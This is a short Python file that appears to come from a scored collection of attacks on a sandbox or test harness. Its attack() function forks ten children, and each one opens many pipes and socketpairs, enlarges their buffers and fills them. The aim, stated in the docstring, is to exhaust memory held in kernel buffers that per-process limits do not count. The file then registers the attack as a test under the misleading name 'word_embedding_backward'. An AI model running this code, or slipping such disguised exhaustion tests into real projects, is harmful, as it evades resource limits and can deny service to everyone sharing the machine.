"""Hope: memory that lies in pipes and sockets is in no process, and no limit sees it."""

import fcntl
import os
import socket

from a3 import kit

GOAL = "exhaust"
ROUTE = "memory"
SCORE = 29.29
HELD = []


def attack():
    """Fill what can be opened from many children, each pipe as large as it may be."""
    block = b"p" * (1 << 20)
    for _ in range(10):
        if os.fork():
            continue
        for _ in range(40):
            try:
                ends = [*os.pipe(), *(each.detach() for each in socket.socketpair())]
                kit.attempt(fcntl.fcntl, ends[1], fcntl.F_SETPIPE_SZ, 1 << 20)
                for end in (ends[1], ends[3]):
                    os.set_blocking(end, False)
                    while os.write(end, block):
                        pass
            except OSError:
                continue
        os._exit(0)
    for _ in range(10):
        os.wait()


word_embedding_backward = kit.in_one_test(attack)
